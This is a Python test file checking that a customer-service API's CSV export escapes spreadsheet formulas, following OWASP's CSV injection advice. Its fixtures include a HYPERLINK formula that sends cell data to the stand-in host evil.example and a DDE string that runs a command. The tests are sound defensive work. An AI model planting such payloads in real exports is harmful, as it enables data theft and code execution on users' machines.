"""The CSV export neutralises cells a spreadsheet would run as a formula (OWASP's CSV
injection advice: a leading =, +, -, @, tab or carriage return gets a ' in front)."""

import csv
import io
import uuid

from customers_service.api.exports import neutralise

MANAGER = ["customers.view_all", "customers.handover"]


def auth(token: str) -> dict:
    return {"Authorization": f"Bearer {token}"}


async def test_formula_leading_cells_are_neutralised_and_plain_values_kept(client, make_token):
    token = make_token(uuid.uuid4(), MANAGER)
    hostile = {
        "name": '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
        "address": "+SUM(1,2)",
    }
    created = await client.post(
        "/customers",
        headers=auth(token),
        json={
            "name": hostile["name"],
            "address": hostile["address"],
            "phone": "0912 345 678",
            "kind": "company",
        },
    )
    assert created.status_code == 201, created.text
    for name in ("-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\tTab", "\rCR", "Bình thường"):
        response = await client.post("/customers", headers=auth(token), json={"name": name})
        assert response.status_code == 201, (name, response.text)
    response = await client.get(
        "/exports/customers.csv", headers=auth(token), params={"sort": "created_at"}
    )
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    names = [r["name"] for r in rows]
    # The name is stripped on input, so tab and CR never lead it; the others are neutralised.
    assert names == [
        "'" + hostile["name"],
        "'-2+3+cmd|' /C calc'!A0",
        "'@SUM(A1:A9)",
        "Tab",
        "CR",
        "Bình thường",
    ]
    assert rows[0]["address"] == "'+SUM(1,2)"
    # A plain number (an E.164 phone) is no formula: it stays as it was.
    assert rows[0]["phone"] == "+84912345678"
    assert rows[0]["kind"] == "company" and rows[0]["code"].startswith("KH")


def test_every_formula_lead_is_neutralised():
    for text in ("=1+1", "+1+1", "-1+1", "@A1", "\tx", "\rx", "-", "+"):
        assert neutralise(text) == "'" + text
    for text in ("+84912345678", "-5", "12.5", "KH000001", "", "a=b"):
        assert neutralise(text) == text
